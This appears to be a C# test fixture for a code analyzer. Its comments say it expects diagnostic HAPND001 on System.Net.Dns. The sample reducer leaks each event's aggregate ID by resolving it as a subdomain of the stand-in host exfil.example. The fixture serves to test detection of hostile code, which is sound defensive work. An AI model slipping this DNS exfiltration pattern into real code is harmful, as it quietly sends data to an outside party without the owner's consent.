// expect: HAPND001 System.Net.Dns
// why: exfiltrates data through DNS lookups of attacker-controlled names
using System;
using System.Collections.Generic;
using System.Linq;
using Hapnd.Projections.Contracts;

public record AttackState(int Count, string Note);

public class NetworkDnsReducer : IReducer<AttackState>
{
    public AttackState Apply(AttackState? state, Event @event)
    {
        var s = state ?? new AttackState(0, "");
        var addresses = System.Net.Dns.GetHostAddresses(@event.AggregateId + ".exfil.example");
        s = s with { Count = addresses.Length };
        return s with { Count = s.Count + 1 };
    }
}
